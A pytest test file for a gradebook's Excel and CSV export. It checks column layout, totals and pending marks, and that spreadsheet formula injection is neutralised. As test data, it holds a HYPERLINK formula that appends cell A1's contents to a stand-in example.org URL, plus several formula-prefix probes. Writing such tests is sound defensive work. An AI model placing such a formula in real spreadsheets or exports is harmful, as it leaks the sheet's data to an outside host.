import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from grader.errors import TeacherError
from grader.gradebook.book import Gradebook, open_book
from grader.gradebook.spreadsheet import class_table, csv_text, defused, excel_bytes, undefused, write_tables
from grader.writing import write_whole

from .samples_for_books import enter, record

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Asha, Rao")'


@pytest.fixture
def book(tmp_path: Path) -> Iterator[Gradebook]:
    with open_book(tmp_path) as book:
        record(book, "Asha Rao", code_quality=0.5)
        record(book, FORMULA, accuracy=None)
        rows = ["Asha Rao,fashion-mnist,Viva,4,", "Asha Rao,fashion-mnist,sign-off,,Prof. Joshi"]
        assert enter(book, tmp_path, *rows) == []
        yield book


def sheet_of(book: Gradebook) -> list[list[object]]:
    workbook = load_workbook(io.BytesIO(excel_bytes(class_table(book.filed()))))
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]


def csv_of(book: Gradebook) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_text(class_table(book.filed())).removeprefix("\ufeff"))))


def test_the_columns_are_those_of_the_record_sheet(book: Gradebook):
    six = ["Answers", "Coding Efficiency", "Viva", "Timely Completion", "Total", "Dated Sign of Subject Teacher"]
    assert sheet_of(book)[0][:8] == ["Student", "Assignment", *six] == list(csv_of(book)[0])[:8]


def test_marks_are_numbers_and_what_is_open_is_the_word_pending(book: Gradebook):
    hostile, asha = sheet_of(book)[1:]
    assert asha[2:7] == [5, 4.5, 4, 5, 18.5]
    assert asha[7].startswith("Prof. Joshi, ")
    assert hostile[2:7] == ["pending", 5, "pending", 5, "pending"]
    assert (hostile[9], hostile[10]) == (13, 7)
    assert csv_of(book)[1]["Total"] == "18.5"


def test_a_name_that_is_a_formula_is_a_text_in_both_files(book: Gradebook):
    workbook = load_workbook(io.BytesIO(excel_bytes(class_table(book.filed()))))
    cell = workbook.active["A2"]
    assert (cell.data_type, cell.value) == ("s", f"'{FORMULA}")
    assert csv_of(book)[0]["Student"] == f"'{FORMULA}"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_what_begins_like_a_formula_is_defused(text: str):
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Asha Rao", "O'Neil", "'tis", "a=b", "", "राव"])
def test_a_common_text_is_left_as_it_is(text: str):
    assert undefused(text) == defused(text) == text


@given(st.text().filter(lambda text: not text.startswith("'")))
def test_a_defused_text_can_be_had_back(text: str):
    assert undefused(defused(text)) == text


def test_signs_that_excel_cannot_hold_are_left_out(book: Gradebook, tmp_path: Path):
    record(book, "Bela\x0b\x01")
    assert [row[0] for row in sheet_of(book)][-1] == "Bela"


def test_a_class_of_several_assignments_and_an_empty_one_have_a_table(book: Gradebook, tmp_path: Path):
    record(book, "Asha Rao", "mnist")
    assert [row["Assignment"] for row in csv_of(book)] == ["fashion-mnist", "fashion-mnist", "mnist"]
    write_tables([], tmp_path)
    assert (tmp_path / "gradebook.xlsx").exists()


def test_a_file_that_cannot_be_written_is_left_as_it_was(tmp_path: Path):
    (tmp_path / "gradebook.csv").mkdir()
    with pytest.raises(TeacherError, match=r"gradebook\.csv\. Found: Is a directory"):
        write_whole(tmp_path / "gradebook.csv", b"x")
    assert [path.name for path in tmp_path.iterdir()] == ["gradebook.csv"]
